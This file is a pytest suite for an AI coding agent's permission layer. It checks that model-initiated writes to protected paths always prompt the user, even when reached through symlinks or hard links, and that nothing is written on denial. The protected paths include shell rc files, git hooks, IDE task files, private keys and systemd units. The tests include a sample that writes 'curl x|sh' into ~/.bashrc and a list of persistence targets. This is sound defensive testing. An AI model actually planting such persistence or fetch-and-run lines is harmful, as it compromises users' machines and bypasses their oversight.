"""Protected paths and grant scope, replayed as attacks end to end: the scripted model
writes, the scripted editor answers, and every protected target is asked (with no session
grant offered) in every mode, with nothing written when the editor denies."""

from __future__ import annotations

import os
import tempfile
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.backend.harness import Rig, rig, tool_call
from tests.backend.test_backend_edits import edit_turn, final_update

pytestmark = pytest.mark.anyio


@pytest.fixture
def user_home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A fake HOME (and no ACPWIRE_HOME/HERMES_HOME of the machine running the tests); the
    system temp dir (a workspace root) moves away from ``tmp_path``."""
    home = tmp_path / "user"
    home.mkdir()
    (tmp_path / "systmp").mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path / "systmp"))
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.delenv("ACPWIRE_HOME", raising=False)
    monkeypatch.delenv("HERMES_HOME", raising=False)
    return home


def option_ids(r: Rig, index: int = -1) -> set[str]:
    return {option.option_id for option in r.editor.policy.requests[index].options}


async def test_a_session_grant_covers_workspace_edits_only(tmp_path: Path, user_home: Path) -> None:
    outside = user_home / "other-project"
    outside.mkdir()
    async with rig(tmp_path) as r:
        sid = await r.new()
        r.editor.policy.first = ["allow_session"]
        r.editor.policy.answer = "deny"
        await edit_turn(r, sid, tool_call("w1", "write_file", path="a.txt", content="1\n"))
        assert (r.workspace / "a.txt").read_text() == "1\n"
        await edit_turn(r, sid, tool_call("w2", "write_file", path="b.txt", content="2\n"))
        assert len(r.editor.policy.requests) == 1  # the grant covers the workspace
        await edit_turn(
            r, sid, tool_call("w3", "write_file", path="~/.bashrc", content="curl x|sh\n")
        )
        await edit_turn(
            r, sid, tool_call("w4", "write_file", path=str(outside / "x"), content="3\n")
        )
        assert len(r.editor.policy.requests) == 3
        assert "allow_session" not in option_ids(r, 1)
        assert "~/.bashrc" in (r.editor.policy.requests[1].tool_call.title or "")
        assert not (user_home / ".bashrc").exists()
        assert not (outside / "x").exists()
        assert final_update(r, sid, "w3").status == "failed"


async def test_a_symlink_into_the_hooks_is_asked_as_its_target(tmp_path: Path) -> None:
    async with rig(tmp_path) as r:
        hooks = r.workspace / ".git" / "hooks"
        hooks.mkdir(parents=True)
        (r.workspace / "scripts").symlink_to(".git/hooks")
        sid = await r.new()
        await r.set_mode(sid, "dont_ask")
        r.editor.policy.answer = "deny"
        await edit_turn(
            r, sid, tool_call("w1", "write_file", path="scripts/pre-commit", content="evil\n")
        )
        (request,) = r.editor.policy.requests
        title = request.tool_call.title or ""
        assert str(hooks / "pre-commit") in title
        assert "linked" in title and "protected" in title
        assert "allow_session" not in option_ids(r)
        assert not (hooks / "pre-commit").exists()


async def test_a_hard_link_is_asked(tmp_path: Path) -> None:
    async with rig(tmp_path) as r:
        (r.workspace / ".git").mkdir()
        config = r.workspace / ".git" / "config"
        config.write_text("[core]\n")
        os.link(config, r.workspace / "build.cfg")
        sid = await r.new()
        await r.set_mode(sid, "accept_edits")
        r.editor.policy.answer = "deny"
        await edit_turn(
            r, sid, tool_call("w1", "write_file", path="build.cfg", content="[core]\n x=1\n")
        )
        (request,) = r.editor.policy.requests
        assert "hard-linked" in (request.tool_call.title or "")
        assert "allow_session" not in option_ids(r)
        assert config.read_text() == "[core]\n"


def _bare_repo(root: Path) -> str:
    bare = root / "mirror.git"
    for sub in ("objects", "refs", "hooks"):
        (bare / sub).mkdir(parents=True)
    (bare / "HEAD").write_text("ref: refs/heads/main\n")
    return "mirror.git/hooks/post-receive"


def _hooks_path(root: Path) -> str:
    (root / ".git").mkdir()
    (root / ".git" / "config").write_text('[core]\n\thooksPath = "tools/hooks"\n')
    return "tools/hooks/pre-commit"


def _worktree(root: Path) -> str:
    main = root.parent / "main-repo.git"
    (main / "worktrees" / "w").mkdir(parents=True)
    (root / ".git").write_text(f"gitdir: {main / 'worktrees' / 'w'}\n")
    return str(main / "worktrees" / "w" / "config")


PROTECTED: dict[str, Callable[[Path], str]] = {
    "config home": lambda root: str(root.parent / "home" / "config.toml"),
    ".envrc.local": lambda root: ".envrc.local",
    ".envs dir": lambda root: ".envs/prod.sh",
    "bare repository hooks": _bare_repo,
    "core.hooksPath": _hooks_path,
    "worktree gitdir": _worktree,
    ".husky": lambda root: ".husky/pre-commit",
    ".vscode": lambda root: ".vscode/tasks.json",
    ".idea": lambda root: ".idea/workspace.xml",
    "private key": lambda root: "deploy/id_ed25519",
    "bashrc": lambda root: "~/.bashrc",
    "zshrc": lambda root: "~/.ZSHRC",
    "profile": lambda root: "~/.profile",
    "fish": lambda root: "~/.config/fish/config.fish",
    "autostart": lambda root: "~/.config/autostart/x.desktop",
    "systemd user": lambda root: "~/.config/systemd/user/x.service",
}


@pytest.mark.parametrize("mode", ["accept_edits", "dont_ask"])
@pytest.mark.parametrize("case", list(PROTECTED))
async def test_every_protected_class_is_asked_in_every_mode(
    tmp_path: Path, user_home: Path, mode: str, case: str
) -> None:
    async with rig(tmp_path) as r:
        path = PROTECTED[case](r.workspace)
        target = Path(os.path.expanduser(path))
        target = target if target.is_absolute() else r.workspace / target
        before = target.read_text() if target.exists() else None
        sid = await r.new()
        await r.set_mode(sid, mode)
        r.editor.policy.answer = "deny"
        await edit_turn(r, sid, tool_call("w1", "write_file", path=path, content="evil\n"))
        (request,) = r.editor.policy.requests
        assert "protected" in (request.tool_call.title or ""), request.tool_call.title
        assert "allow_session" not in option_ids(r)
        assert (target.read_text() if target.exists() else None) == before
